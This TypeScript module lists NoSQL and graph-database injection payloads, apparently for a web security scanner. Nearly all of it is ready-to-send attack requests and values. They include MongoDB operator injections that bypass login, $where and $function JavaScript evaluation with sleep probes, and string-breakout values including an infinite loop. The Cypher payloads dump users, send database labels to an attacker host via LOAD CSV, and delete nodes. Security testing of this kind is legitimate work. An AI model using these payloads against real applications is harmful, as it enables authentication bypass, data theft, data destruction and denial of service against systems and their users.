import { formMessage, getMessage, jsonMessage } from '../message.ts';
import type { TechniqueFamily } from '../technique.ts';

export const nosqlTechniques: TechniqueFamily = {
  about: 'a query of a document or graph database',
  places: [
    'query value',
    'form value',
    'JSON leaf',
    'JSON in query',
    'GraphQL variable',
    'multipart field',
    'cookie',
    'path',
  ],
  fields: ['user', 'name', 'id', 'filter', 'q'],
  techniques: {
    'operators in names': {
      does: 'Turns a text into an operator by the name of the field',
      needs: 'PHP or Express with MongoDB',
      requests: () => [
        formMessage('/login', { 'user[$ne]': '1', 'pass[$ne]': '1' }),
        formMessage('/login', { user: 'admin', 'pass[$regex]': '^a' }),
        formMessage('/login', { 'user[$in][]': 'admin', 'pass[$gt]': '' }),
        getMessage('/items?id[$exists]=true'),
        getMessage('/items?name[$nin][]=x'),
        getMessage('/items?filter[$where]=sleep(4000)'),
        formMessage('/login', { 'user[$or][0][role]': 'admin', 'pass[$not][$type]': '99' }),
      ],
    },
    'operators in JSON': {
      does: 'Sends an operator where a text is expected',
      needs: 'MongoDB',
      requests: () => [
        jsonMessage('/login', { user: { $ne: null }, pass: { $ne: null } }),
        jsonMessage('/login', { user: 'admin', pass: { $gt: '' } }),
        jsonMessage('/login', { user: { $regex: '^adm' }, pass: { $exists: true } }),
        jsonMessage('/login', { email: { $in: ['a@shop.test'] }, pass: { $nin: [] } }),
        jsonMessage('/login', { user: 'admin', pass: { $not: { $eq: 'x' } } }),
        jsonMessage('/login', { $or: [{ user: 'admin' }, { a: 1 }], pass: { $type: 2 } }),
        getMessage(`/items?query=${encodeURIComponent('{"pass":{"$ne":1}}')}`),
      ],
    },
    JavaScript: {
      does: 'Has the database evaluate JavaScript',
      needs: 'MongoDB, CouchDB',
      requests: () => [
        jsonMessage('/items', { $where: 'sleep(4000)' }),
        jsonMessage('/items', { $where: 'this.pass.match(/^a/)' }),
        jsonMessage('/items', {
          q: { $function: { body: 'function(){return true}', args: [], lang: 'js' } },
        }),
        jsonMessage('/items', { mapReduce: 'users', map: 'function(){emit(1,1)}' }),
        jsonMessage('/items', { user: { $func: 'var_dump' } }),
      ],
    },
    'out of a string': {
      does: 'Ends a string of a JavaScript condition',
      needs: 'MongoDB with $where',
      values: () => [
        "' || '1'=='1",
        "'; return true; var x='",
        "' || this.pass.match(/^a.*/)//",
        "admin' && this.role=='root' && '1'=='1",
        "';while(true){};'",
        "1; return this.pass != ''",
        '" || 1==1 //',
        "'; sleep(5000); '",
      ],
    },
    'out of a JSON text': {
      does: 'Ends a text of a query in JSON and adds operators',
      needs: 'applications that join JSON as text',
      values: () => [
        '", "$or": [ {}, {"a":"',
        'x"}, {"pass": {"$ne": "',
        "', $or: [ {}, { 'a':'a",
        '"},"$where":"1==1',
        "true, $where: '1 == 1'",
      ],
    },
    Cypher: {
      does: 'Leaves a text or pattern of a graph query',
      needs: 'Neo4j',
      values: () => [
        "' OR 1=1 RETURN n //",
        "'}) RETURN n UNION MATCH (x:User) RETURN x //",
        "' WITH 1 as a CALL db.labels() YIELD label LOAD CSV FROM 'http://evil.example/' + label AS l RETURN 0 //",
        "x'}) DETACH DELETE n //",
      ],
    },
  },
};
